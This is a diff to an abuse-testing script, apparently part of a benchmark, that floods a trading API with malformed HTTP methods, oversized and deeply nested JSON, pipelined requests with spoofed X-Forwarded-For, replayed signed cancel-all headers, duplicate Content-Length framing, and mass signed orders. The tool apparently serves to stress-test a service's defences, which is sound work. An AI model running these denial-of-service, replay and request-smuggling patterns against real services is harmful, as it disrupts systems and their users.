@@ -96,7 +96,14 @@ async function main(): Promise<void> {
   });
   if (!values.url || !values.pattern) throw new Error('usage: tools/abuse.ts --url URL --pattern P [--seconds S] [--xff IP] [--key 0x...]');
   const url = new URL(values.url);
-  const until = Date.now() + Number(values.seconds) * 1000;
+  // The attack runs for --seconds from the end of its set-up (keys, signed bodies), which it announces with a
+  // `{"ready":true}` line, so a caller can time its window from the attack rather than from the process start.
+  let until = 0;
+  const go = (): number => {
+    until = Date.now() + Number(values.seconds) * 1000;
+    process.stdout.write('{"ready":true}\n');
+    return until;
+  };
   const xff = values.xff ? `X-Forwarded-For: ${values.xff}\r\n` : '';
   const xffHeader: Record<string, string> = values.xff ? { 'x-forwarded-for': values.xff } : {};
   const tally: Tally = { sent: 0, statuses: {} };
@@ -104,21 +111,23 @@ async function main(): Promise<void> {
 
   switch (values.pattern) {
     case 'methods':
-      await paced(500, 32, until, () => raw(url, `${head(`M${Math.random().toString(36).slice(2).toUpperCase()}${'X'.repeat(Math.floor(Math.random() * 4000))}`, '/no/such/route')}\r\n`), tally);
+      await paced(500, 32, go(), () => raw(url, `${head(`M${Math.random().toString(36).slice(2).toUpperCase()}${'X'.repeat(Math.floor(Math.random() * 4000))}`, '/no/such/route')}\r\n`), tally);
       break;
     case 'arrays': {
       const body = Buffer.from(`[${Array(520_000).fill('1').join(',')}]`);
-      await paced(500, 16, until, () => raw(url, Buffer.concat([Buffer.from(`${head('POST', '/last-trades-prices', `Content-Type: application/json\r\nContent-Length: ${body.length}\r\n`)}\r\n`), body])), tally);
+      await paced(500, 16, go(), () => raw(url, Buffer.concat([Buffer.from(`${head('POST', '/last-trades-prices', `Content-Type: application/json\r\nContent-Length: ${body.length}\r\n`)}\r\n`), body])), tally);
       break;
     }
     case 'nesting': {
       const body = Buffer.from('['.repeat(100_000) + ']'.repeat(100_000));
       const to = (path: string) => () => raw(url, Buffer.concat([Buffer.from(`${head('POST', path, `Content-Type: application/json\r\nContent-Length: ${body.length}\r\n`)}\r\n`), body]));
-      await Promise.all([paced(8, 4, until, to('/prices'), tally), paced(500, 16, until, to('/no/such/route'), tally)]);
+      const end = go();
+      await Promise.all([paced(8, 4, end, to('/prices'), tally), paced(500, 16, end, to('/no/such/route'), tally)]);
       break;
     }
     case 'pipeline': {
       const pipelined = `GET /openapi.json HTTP/1.1\r\nHost: x\r\n${xff}\r\n`.repeat(250);
+      go();
       while (Date.now() < until) {
         const sockets = Array.from({ length: 4 }, () => {
           const s = net.connect(Number(url.port), url.hostname, () => s.write(pipelined));
@@ -140,7 +149,7 @@ async function main(): Promise<void> {
       const wallet = { address: account.address.toLowerCase(), apiKey: creds.apiKey, passphrase: creds.passphrase, hmacKey: Buffer.from(creds.secret.replace(/-/g, '+').replace(/_/g, '/'), 'base64') };
       let captured = l2Headers(wallet, 'DELETE', '/cancel-all');
       let capturedAt = Date.now();
-      await paced(500, 32, until, async () => {
+      await paced(500, 32, go(), async () => {
         // A capture is replayable for the skew window: take a fresh one every 20 s.
         if (Date.now() - capturedAt > 20_000) {
           captured = l2Headers(wallet, 'DELETE', '/cancel-all');
@@ -153,7 +162,7 @@ async function main(): Promise<void> {
       break;
     }
     case 'framing':
-      await paced(500, 32, until, () => raw(url, `${head('POST', '/prices', 'Content-Type: application/json\r\nContent-Length: 2\r\nContent-Length: 40\r\n')}\r\n[]`), tally);
+      await paced(500, 32, go(), () => raw(url, `${head('POST', '/prices', 'Content-Type: application/json\r\nContent-Length: 2\r\nContent-Length: 40\r\n')}\r\n[]`), tally);
       break;
     case 'keys': {
       if (!values.key) throw new Error('--key: the private key of a funded wallet');
@@ -164,8 +173,10 @@ async function main(): Promise<void> {
       const keys: SigningWallet[] = [];
       const hmac: { apiKey: string; passphrase: string; hmacKey: Buffer }[] = [];
       for (let n = 0n; n < 10n; n++) {
+        // A second run against the same service (the bench's rounds) derives the keys the first one created.
         const r = await fetch(`${url.origin}/auth/api-key`, { method: 'POST', headers: { ...xffHeader, ...(await l1Headers(account, info.authDomain, n)) } });
-        const c = (await r.json()) as { apiKey: string; secret: string; passphrase: string };
+        const c = (r.status === 200 ? await r.json() : await (await fetch(`${url.origin}/auth/derive-api-key`, { headers: { ...xffHeader, ...(await l1Headers(account, info.authDomain, n)) } })).json()) as { apiKey: string; secret: string; passphrase: string };
+        if (c.secret === undefined) throw new Error(`no API key for nonce ${n}: ${JSON.stringify(c)}`);
         keys.push({ privateKey: values.key, address: account.address.toLowerCase(), apiKey: c.apiKey });
         hmac.push({ apiKey: c.apiKey, passphrase: c.passphrase, hmacKey: Buffer.from(c.secret.replace(/-/g, '+').replace(/_/g, '/'), 'base64') });
       }
@@ -176,14 +187,17 @@ async function main(): Promise<void> {
           JSON.stringify(signer.sign(k, { tokenId: market.tokens[0]!.token_id, negRisk: market.neg_risk, leg: { outcome: 0, side: 'BUY', pricePips: 100, sizeUnits: 5_000_000 }, orderType: 'GTC', salt: i + 1, timestampMs: Date.now() }).submission),
         ),
       );
+      const end = go();
       await Promise.all(
         keys.map((k, j) => {
           let i = 0;
-          return paced(48, 8, until, async () => {
+          return paced(48, 8, end, () => {
+            // Raw bytes on a connection of its own, as the other patterns send: the attacker's own client CPU
+            // (fetch's is several times this) is taken from the same two cores as the service's.
             const body = bodies[j]![i++ % perKey]!;
-            const r = await fetch(`${url.origin}/order`, { method: 'POST', headers: { ...xffHeader, 'content-type': 'application/json', ...l2Headers({ ...hmac[j]!, address: k.address }, 'POST', '/order', body) }, body });
-            await r.arrayBuffer();
-            return r.status;
+            const l2 = l2Headers({ ...hmac[j]!, address: k.address }, 'POST', '/order', body);
+            const extra = Object.entries(l2).map(([name, v]) => `${name}: ${v}\r\n`).join('');
+            return raw(url, `${head('POST', '/order', `Content-Type: application/json\r\nContent-Length: ${Buffer.byteLength(body)}\r\n${extra}`)}\r\n${body}`);
           }, tally);
         }),
       );
